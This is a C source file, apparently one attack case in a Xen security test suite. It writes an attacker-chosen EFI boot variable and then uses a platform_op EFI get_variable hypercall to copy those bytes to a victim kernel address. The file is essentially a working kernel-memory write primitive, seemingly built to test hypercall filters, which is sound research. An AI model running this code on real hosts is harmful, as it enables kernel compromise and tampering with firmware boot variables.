// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through platform_op, which dom0's kernel itself uses to speak with the
 * firmware and to manage CPUs: a filter cannot just refuse it on the way from
 * the kernel to Xen.
 */
#include "kmem.h"

#include <fcntl.h>

/* The part of a platform_op up to and with a field. */
#define UP_TO(field)                                                           \
    (offsetof(struct xen_platform_op, u.field) +                               \
     sizeof(((struct xen_platform_op *)0)->u.field))
#define HEADER_ONLY offsetof(struct xen_platform_op, u)

static long platform_op_in_host_name(struct xen_platform_op op, size_t input)
{
    op.interface_version = XENPF_INTERFACE_VERSION;
    return hypercall1(__HYPERVISOR_platform_op, in_host_name(&op, input));
}

/* A row: the operation and its fields. _BACK: as an argument in the kernel. */
#define KMEM_PLATFORM(id, title, command, ...)                                 \
    KMEM(id, title, PLATFORM_OP(command, __VA_ARGS__))
#define KMEM_PLATFORM_BACK(id, title, command, input, ...)                     \
    KMEM(id, title,                                                            \
         platform_op_in_host_name(                                             \
             (struct xen_platform_op){ .cmd = XENPF_##command, __VA_ARGS__ },  \
             input))

/* ---- into a buffer ---- */

/* A boot entry of our own, which no boot order names. */
#define BOOT_ENTRY u"Boot0ABD"
static const char boot_entry[] =
    "/sys/firmware/efi/efivars/Boot0ABD-8be4df61-93ca-11d2-aa0d-00e098032b8c";
static const struct xenpf_efi_guid global = {
    0x8be4df61, 0x93ca, 0x11d2, { 0xaa, 0x0d, 0, 0xe0, 0x98, 3, 0x2b, 0x8c }
};

/* As the kernel and the firmware want it, but for what its loader gets. */
struct boot_entry {
    uint32_t attributes; /* of the variable */
    uint32_t active;
    uint16_t path_size, description[2];
    uint8_t path[4];
    char for_loader[MARK_SIZE];
} __attribute__((packed));
#define CONTENT_SIZE (sizeof(struct boot_entry) - sizeof(uint32_t))

static bool set_boot_entry(const char *bytes)
{
    struct boot_entry entry = {
        .attributes = XEN_EFI_VARIABLE_NON_VOLATILE |
                      XEN_EFI_VARIABLE_BOOTSERVICE_ACCESS |
                      XEN_EFI_VARIABLE_RUNTIME_ACCESS,
        .active = 1,
        .path_size = sizeof(entry.path),
        .description = { 'r' },
        .path = { 0x7f, 0xff, sizeof(entry.path), 0 }, /* its end */
    };
    int fd = open(boot_entry, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    bool done;

    memcpy(entry.for_loader, bytes, sizeof(entry.for_loader));
    done = fd >= 0 && write(fd, &entry, sizeof(entry)) == sizeof(entry);
    if ( fd >= 0 )
        close(fd);
    return done;
}

/*
 * U-KMEM-EFIVAR: chosen bytes: the content of an EFI variable that the attacker
 * sets.
 */
KMEM_ATTACK("U-KMEM-EFIVAR", "a chosen EFI variable into the kernel")
{
    static const uint16_t name[] = BOOT_ENTRY;
    long result;

    if ( !set_boot_entry(new_mark()) )
        return cannot_show("this host sets no EFI variables");

    result = PLATFORM_OP(
        efi_runtime_call,
        .u.efi_runtime_call = { .function = XEN_EFI_get_variable,
                                .u.get_variable = { .name.p = (void *)name,
                                                    .vendor_guid = global,
                                                    .size = CONTENT_SIZE,
                                                    .data.p = AT_VICTIM } });
    unlink(boot_entry);

    return result;
}

#include "platform.def"
